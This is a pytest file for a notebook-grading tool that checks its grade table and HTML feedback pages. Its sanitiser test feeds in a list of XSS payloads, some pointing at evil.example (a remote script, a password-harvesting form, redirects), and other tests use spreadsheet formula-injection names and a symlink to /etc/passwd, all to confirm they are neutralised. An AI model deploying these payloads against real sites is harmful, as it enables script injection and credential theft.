"""What instructors and students get: the table, the feedback pages, the instructor's page."""

import base64
import csv
import json
import os
import re
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import pytest
from grading_course import AUTOMATIC, NAME, answer, blank, hand_in, make_course, right
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output

from tp_gan import CourseError
from tp_gan.grading.course import Course
from tp_gan.grading.report import report
from tp_gan.grading.verdicts import Verdict, Verdicts, digest

PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII="
LIVE = {
    "script",
    "iframe",
    "object",
    "embed",
    "form",
    "input",
    "button",
    "svg",
    "math",
    "base",
    "frame",
    "video",
    "audio",
}


def page_of(course, student):
    return (course.feedback_folder / student / NAME / f"{NAME}.html").read_text("utf8")


def copy_of(course, student):
    return course.autograded_folder / student / NAME / f"{NAME}.ipynb"


def judge(course, student, notebook=b"", **settings):
    path = course.submitted_folder / student / NAME / f"{NAME}.ipynb"
    content = notebook or (path.read_bytes() if path.exists() else b"")
    verdict = Verdict(digest(content, b""), "tp", **{"status": "executed", "merged": True, **settings})
    Verdicts(course.verdict_folder / NAME).write(student, verdict)


def table(folder):
    with open(folder / "notes.csv", encoding="utf-8-sig", newline="") as file:
        return {row["étudiant"]: row for row in csv.DictReader(file, delimiter=";")}


def state(folder, student):
    row = table(folder)[student]
    return row[NAME], row[f"{NAME} état"]


@pytest.fixture(scope="module")
def built(tmp_path_factory):
    """A class graded by plain nbgrader, with the verdicts that `tp-gan grade` would have left."""
    root = tmp_path_factory.mktemp("course")
    make_course(root)
    wrong = answer(right(), "radius", "def radius(points):\n    return points[:, 0]")
    hostile = right()
    hostile.cells.append(new_code_cell("print('fin')"))
    for student, notebook in (("juste", right()), ("vide", blank()), ("faux", wrong), ("hostile", hostile)):
        hand_in(root, student, notebook)
    environment = {**os.environ, "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}"}
    command = [sys.executable, "-m", "nbgrader", "autograde", NAME, "--create"]
    run = subprocess.run(command, cwd=root, env=environment, capture_output=True, text=True)
    assert run.returncode == 0, run.stderr
    course = Course.find(root)
    for student in ("juste", "vide", "faux", "hostile"):
        judge(course, student)
    return root


@pytest.fixture
def course(built, tmp_path):
    import shutil

    shutil.copytree(built, tmp_path / "cours")
    return Course.find(tmp_path / "cours")


def put(course, student, *cells):
    """Add cells to an executed copy, as a student's code could have left them."""
    os.chmod(copy_of(course, student), 0o644)
    notebook = json.loads(copy_of(course, student).read_text("utf8"))
    notebook["cells"] += [json.loads(json.dumps(cell)) for cell in cells]
    copy_of(course, student).write_text(json.dumps(notebook), "utf8")


def shown(*outputs):
    return new_code_cell("montrer()", outputs=list(outputs), execution_count=1)


def display(**data):
    return new_output("display_data", data={key.replace("_", "/"): value for key, value in data.items()})


class Live(HTMLParser):
    """What of a page could act: elements, attributes and addresses."""

    def __init__(self):
        super().__init__()
        self.found, self.pictures = [], []

    def handle_starttag(self, tag, attributes):
        if tag in LIVE:
            self.found.append(tag)
        for name, value in attributes:
            address = re.sub(r"[\s\x00]", "", value or "").lower()
            if name.startswith("on") or address.startswith(("javascript:", "vbscript:", "data:text")):
                self.found.append(f"{tag} {name}={value}")
            if name == "style" and ("url" in address or "position" in address):
                self.found.append(f"{tag} {name}={value}")
            if tag == "img" and name == "src":
                self.pictures.append(value)
            if name in ("src", "srcset", "background", "poster") and not address.startswith("data:image/"):
                self.found.append(f"{tag} {name}={value}")


def live(page):
    parser = Live()
    parser.feed(page)
    return parser


# --- the table -------------------------------------------------------------------------------------------------------


def test_every_state_has_its_words(course, tmp_path):
    hand_in(course.root, "attend", right())
    judge(course, "perdu", status="failed", reason="notebook illisible ; tronqué")
    judge(course, "faux", notes=["schema_version 99 lu comme 3"], suspicions=["la vérification check_radius a changé"])
    hand_in(course.root, "vide", right())  # another copy since
    with course.gradebook() as gradebook:
        gradebook.add_student("=cmd()", first_name="@SUM(A1)", last_name='Zoé; "l\'autre"')
        for student in ("juste",):
            submission = gradebook.find_submission_notebook(NAME, NAME, student)
            (grade,) = (grade for grade in submission.grades if grade.name == "avis")
            grade.manual_score, grade.needs_manual_grade = 0.5, False
            gradebook.db.commit()
    written = report(course, NAME, folder=tmp_path)
    assert [path.name for path in written] == ["notes.csv", "rapport.html", "feedback"]
    assert state(tmp_path, "juste") == ("5,5", "notée")
    assert state(tmp_path, "vide") == ("0", "notée, copie changée depuis")
    assert state(tmp_path, "faux") == ("3", "à corriger à la main, réparée, à revoir")
    assert state(tmp_path, "hostile") == ("5", "à corriger à la main")
    assert state(tmp_path, "perdu") == ("", "échec : notebook illisible ; tronqué")
    assert state(tmp_path, "attend") == ("", "pas encore corrigée")
    assert state(tmp_path, "'=cmd()") == ("", "absente")
    row = table(tmp_path)["'=cmd()"]
    assert (row["prénom"], row["nom"], row[f"{NAME} maximum"]) == ("'@SUM(A1)", 'Zoé; "l\'autre"', "6")
    assert list(table(tmp_path)) == ["'=cmd()", "attend", "faux", "hostile", "juste", "perdu", "vide"]
    raw = (tmp_path / "notes.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert raw.count(b"\r\n") == 8


def test_without_any_copy(tmp_path):
    make_course(tmp_path)
    with pytest.raises(CourseError, match="collect"):
        report(Course.find(tmp_path))
    with pytest.raises(CourseError, match="inconnu"):
        report(Course.find(tmp_path), "99_rien")


# --- feedback --------------------------------------------------------------------------------------------------------


def test_feedback_has_no_hidden_test_and_no_script(course):
    raised = answer(right(), "radius", "def radius(points):\n    return In[-1]")
    assert "HIDDEN" not in json.dumps(raised)
    report(course)
    for student in ("juste", "vide", "faux", "hostile"):
        page = page_of(course, student)
        assert "HIDDEN" not in page
        assert "seed=" not in page
        assert "seed" not in re.sub(r"<[^>]*>", "", page)
        assert live(page).found == []
        assert "Content-Security-Policy" in page
        assert 'lang="fr"' in page
        assert "Score" not in re.sub(r"<style.*?</style>", "", page, flags=re.DOTALL)
    assert page_of(course, "juste").count("✔") == 4
    assert page_of(course, "vide").count("✘") == 2
    assert "Parce que deux pertes opposées" in page_of(course, "juste")
    text = " ".join(re.sub(r"<[^>]*>", " ", page_of(course, "juste")).split())
    assert "00_mini (5 / 6)" in text
    assert "avis (texte, à la main) (à venir / 1)" in text


def test_lines_of_a_hidden_test_leave_traces_and_outputs(course):
    line = "bienvenue.check_radius(globals(), seed=1)"
    trace = [
        "\x1b[0;31mNameError\x1b[0m",
        f"----> 4 \x1b[32mbienvenue\x1b[0m.{line[10:]}",
        "      5 assert autre",
        "fin",
    ]
    put(
        course,
        "faux",
        shown(new_output("error", ename="NameError", evalue="name 'x'", traceback=trace)),
        shown(new_output("stream", text=f"volé : {line}\n"), display(text_html=f"<pre>{line}</pre>")),
    )
    report(course)
    text = re.sub(r"<[^>]*>", "", page_of(course, "faux"))
    assert "seed" not in text
    assert "NameError: name" in text
    assert "assert autre" not in text
    assert "volé" in text


@pytest.mark.parametrize(
    "source",
    [
        "<script>alert(1)</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<SCRIPT SRC=//evil.example/x.js>",
        "<img src=x onerror=alert(1)>",
        "<img src='https://evil.example/pixel.png'>",
        '<img src="data:text/html;base64,PHNjcmlwdD4=">',
        "<svg onload=alert(1)><script>alert(1)</script></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<a href='javascript:alert(1)'>x</a> [y](javascript:alert(1)) [z](  java\nscript:alert(1))",
        "<a href='&#106;avascript:alert(1)'>x</a> ![y](javascript:alert(1))",
        "<form action=//evil.example><input name=password><button>OK</button></form>",
        "<style>@import url(//evil.example/x.css)</style>"
        "<div style='position:fixed;top:0;background:url(//evil.example)'>20/20",
        "<base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'>",
        "<object data=x></object><embed src=x><video src=x onerror=alert(1)>",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
        "</div></div></body></html><script>alert(1)</script>",
        "<!--><script>alert(1)</script>-->",
        "<script" * 2000,
    ],
)
def test_a_hostile_text_shows_and_does_nothing(course, source):
    put(
        course,
        "hostile",
        new_markdown_cell(source),
        {**new_markdown_cell(source), "cell_type": "raw", "metadata": {"raw_mimetype": "text/html"}},
        new_code_cell(source),
        shown(display(text_html=source), display(text_markdown=source), display(image_svgLxml=source)),
        shown(new_output("display_data", data={"image/svg+xml": source, "application/javascript": source})),
        shown(display(text_latex=source), display(text_plain=source), new_output("stream", text=source)),
        shown(new_output("error", ename=source, evalue=source, traceback=[source])),
        shown(display(image_png=f'AA"><{source}'), new_output("display_data", data={"application/pdf": source})),
    )
    report(course)
    page = page_of(course, "hostile")
    assert live(page).found == []
    # Of a meta or a style that a student writes, nothing is left either.
    assert len(re.findall("<meta", page)) == 3


def test_metadata_cannot_write_in_the_page(course):
    path, mark = copy_of(course, "hostile"), '"><script>alert(1)</script>'
    os.chmod(path, 0o644)
    notebook = json.loads(path.read_text("utf8"))
    notebook["metadata"] |= {"title": mark, "language_info": {"name": mark, "pygments_lexer": mark}}
    notebook["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": {"no": mark}}
    cell = new_code_cell(
        "1", execution_count=1, metadata={"tags": [mark], "nbgrader": {"grade_id": mark, "grade": True}}
    )
    cell["id"], cell["execution_count"] = "a", mark
    cell["outputs"] = [new_output("display_data", data={"image/png": PIXEL}, metadata={"image/png": {"width": mark}})]
    notebook["cells"].append(cell)
    path.write_text(json.dumps(notebook), "utf8")
    report(course)
    page = page_of(course, "hostile")
    assert live(page).found == []
    assert mark not in page


def test_pictures_of_the_course_still_show(course):
    kinds = ("png", "jpeg", "gif", "webp")
    tags = [f'<img alt="Un cercle, et l&#x27;étoile" src="data:image/{kind};base64,{PIXEL}">' for kind in kinds]
    turning = f'<div style="position: relative">{tags[0]}<canvas></canvas><script>var x = "<b>";</script></div>'
    svg = '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><circle r="3"/></svg>'
    put(
        course,
        "hostile",
        shown(*[display(text_html=tag, text_plain="<Figure>") for tag in tags], display(text_html=turning)),
        shown(new_output("display_data", data={"image/png": PIXEL + "\n", "text/plain": "<Figure>"})),
        shown(new_output("display_data", data={"image/svg+xml": svg})),
        new_markdown_cell(
            "Une formule $a < b$ et $$\\begin{cases} x & y \\\\ z & t \\end{cases}$$ et `if a < b && c`."
        ),
    )
    report(course)
    page = page_of(course, "hostile")
    parser = live(page)
    assert parser.found == []
    assert [picture.split(";")[0] for picture in parser.pictures] == [
        *(f"data:image/{kind}" for kind in kinds),
        "data:image/png",
        "data:image/png",
        "data:image/svg+xml",
    ]
    assert base64.b64decode(parser.pictures[-1].split(",")[1]).decode() == svg
    assert page.count("Un cercle, et l'étoile") + page.count("Un cercle, et l&#x27;étoile") == 5
    assert "var x" not in page
    assert "if a &lt; b &amp;&amp; c" in page
    assert "$a &lt; b$" in page


def test_one_broken_copy_does_not_stop_the_others(course, tmp_path):
    secret = tmp_path / "secret.ipynb"
    secret.write_bytes(copy_of(course, "juste").read_bytes())
    copy_of(course, "faux").unlink()
    copy_of(course, "faux").symlink_to(secret)
    os.chmod(copy_of(course, "vide"), 0o644)
    copy_of(course, "vide").write_text("{")
    (copy_of(course, "juste").parent / "lien.txt").symlink_to("/etc/passwd")
    (course.feedback_folder / "faux" / NAME).mkdir(parents=True)
    (course.feedback_folder / "faux" / NAME / f"{NAME}.html").write_text("ancienne")
    report(course)
    pages = sorted(path.relative_to(course.feedback_folder).as_posix() for path in course.feedback_folder.rglob("*.*"))
    assert pages == [f"{student}/{NAME}/{NAME}.html" for student in ("hostile", "juste")]
    shown_page = (course.root / "rapport.html").read_text("utf8")
    assert "pas de retour pour faux" in shown_page
    assert "pas de retour pour vide" in shown_page


def test_feedback_of_a_failed_copy_says_why(course):
    judge(course, "perdu", status="failed", reason="<b>illisible</b>")
    report(course)
    assert "n'a pas pu être corrigée : &lt;b&gt;illisible&lt;/b&gt;" in page_of(course, "perdu")


def test_feedback_is_bounded(course):
    flood = [new_output("stream", text="x" * 1_000_000) for _ in range(40)]
    put(course, "hostile", shown(*flood), *[shown(display(text_html="<p>" + "y" * 3_000_000)) for _ in range(9)])
    report(course)
    assert len(page_of(course, "hostile")) < 30_000_000
    assert "coupé ici" in page_of(course, "hostile")


# --- the instructor's page -------------------------------------------------------------------------------------------


def test_page_of_the_instructor(course):
    judge(course, "perdu", status="failed", reason="noyau tué : <script>mémoire</script>")
    judge(course, "faux", suspicions=["la vérification check_radius a été remplacée"])
    judge(course, "hostile", notes=["deux cellules check_quiz_4"])
    hand_in(course.root, "juste", nbformat.read(course.submitted_folder / "juste" / NAME / f"{NAME}.ipynb", 4))
    report(course)
    page = (course.root / "rapport.html").read_text("utf8")
    assert [element for element in live(page).found if element != "svg"] == []
    # split() takes a no-break space for a space.
    text = " ".join(re.sub(r"<[^>]*>", " ", re.sub(r"<style.*?</style>", "", page, flags=re.DOTALL)).split())
    assert "copies reçues 5 / 5" in text
    assert f"moyenne 3,2 / {AUTOMATIC + 1}" in text
    assert "à regarder d’abord étudiant état pourquoi perdu échec noyau tué : &lt;script&gt;" in text
    looked_at = text.split("pourquoi")[1]
    assert looked_at.index("perdu") < looked_at.index("faux") < looked_at.index("hostile")
    failed = text.split("Questions les plus manquées")[1]
    assert failed.index("check_radius") < failed.index("check_quiz_4")
    assert "2 sur 4 (50 %)" in failed
    assert "✘ radius : la réponse est encore vide" in failed
    assert "avis" not in failed, "no check reads a written answer, empty or not"
    label = re.search(r'<svg[^>]*aria-label="([^"]*)"', page, re.DOTALL)[1]
    assert "De 0 à 1 : 1, De 1 à 2 : 0, De 2 à 3 : 0, De 3 à 4 : 1, De 4 à 5 : 0, De 5 à 6 : 2." in " ".join(
        label.split()
    )
    assert "http" not in re.sub(r"http-equiv", "", page)
